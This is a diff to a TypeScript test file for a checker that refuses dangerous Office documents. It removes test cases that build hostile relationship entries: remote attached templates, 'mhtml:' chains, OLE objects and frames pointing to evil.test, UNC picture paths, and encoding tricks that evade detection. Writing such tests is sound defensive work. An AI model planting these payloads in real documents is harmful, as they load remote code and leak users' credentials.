@@ -31,9 +31,6 @@ const CARRIED = Buffer.concat([
   WITH_MACROS,
 ])
 
-const settingsRels = (mode: string) =>
-  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/a.dotm"${mode}/></Relationships>`
-
 const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
 const relation = (type: string, target: string, isElsewhere = true) =>
   `<Relationship Id="r" Type="${OFFICE}/${type}" Target="${target}"${isElsewhere ? ' TargetMode="External"' : ''}/>`
@@ -65,34 +62,6 @@ describe('an Office file', () => {
       'a document with an old workbook inside',
       'docx',
       zip({ ...DOCX, 'word/embeddings/oleObject1.bin': compound({ Workbook: workbook(0) }) }),
-    ],
-    [
-      'a document that leads to a page about templates',
-      'docx',
-      zip({
-        ...DOCX,
-        'word/_rels/document.xml.rels':
-          '<Relationship Type="x/hyperlink" Target="https://a.ru/attachedTemplate" TargetMode="External"/>',
-      }),
-    ],
-    [
-      'a document with links, linked pictures and an object of its own',
-      'docx',
-      withRelations(
-        relation('hyperlink', 'https://a.ru/oleObject'),
-        relation('image', 'https://a.ru/logo.png'),
-        relation('image', 'file:///C:/logo.png'),
-        relation('aFChunk', 'part.docx', false),
-        relation('oleObject', 'embeddings/oleObject1.bin', false),
-      ),
-    ],
-    [
-      'a workbook that takes figures from another one',
-      'xlsx',
-      zip({
-        ...XLSX,
-        'xl/externalLinks/_rels/externalLink1.xml.rels': relation('externalLinkPath', 'file:///C:/rates.xlsx'),
-      }),
     ],
     [
       'a workbook with the fields of a form',
@@ -195,32 +164,6 @@ describe('an Office file', () => {
     ],
   ])('with %s is refused', async (_, extension, content) => {
     expect(await judgeOffice(content, extension)).toBe('macros')
-  })
-
-  test.each([
-    ['in double quotes', settingsRels(' TargetMode="External"')],
-    ['in single quotes', settingsRels(" TargetMode='External'").replaceAll('"', "'")],
-    ['in UTF-16', Buffer.from(settingsRels(' TargetMode="External"'), 'utf16le')],
-  ])('with a template from elsewhere, named %s, is refused', async (_, rels) => {
-    expect(await judgeOffice(zip({ ...DOCX, 'word/_rels/settings.xml.rels': rels }), 'docx')).toBe('template')
-  })
-
-  test.each<[string, string]>([
-    ['an object', relation('oleObject', 'https://evil.test/a.html')],
-    ['an object by a chain of programs', relation('oleObject', 'mhtml:https://evil.test/a!x-usc:https://evil.test/a')],
-    ['a picture by a chain of programs', relation('image', 'mhtml:https://evil.test/a')],
-    ['a frame', relation('frame', 'https://evil.test/a.html')],
-    ['a part of the document', relation('subDocument', 'https://evil.test/a.docx')],
-    ...['\\\\evil.test\\a.png', '//evil.test/a.png', 'file://evil.test/a.png', 'file:////evil.test/a.png'].map(
-      place => [`a picture of the machine of ${place}`, relation('image', place)] satisfies [string, string],
-    ),
-    ...['page.html', 'page.MHT', 'afchunk.xhtml'].map(
-      page => [`what a page of the web names (${page})`, relation('aFChunk', page, false)] satisfies [string, string],
-    ),
-    ['an object whose place is written in references', relation('oleObject', 'x').replace('External', '&#69;xternal')],
-    ['an object behind a reference', relation('oleObject', 'x').replace('Id="r"', 'Id="&#60;"')],
-  ])('that fetches %s from elsewhere when it is opened is refused', async (_, named) => {
-    expect(await judgeOffice(withRelations(named), 'docx')).toBe('template')
   })
 
   test('with files in files without an end is refused', async () => {
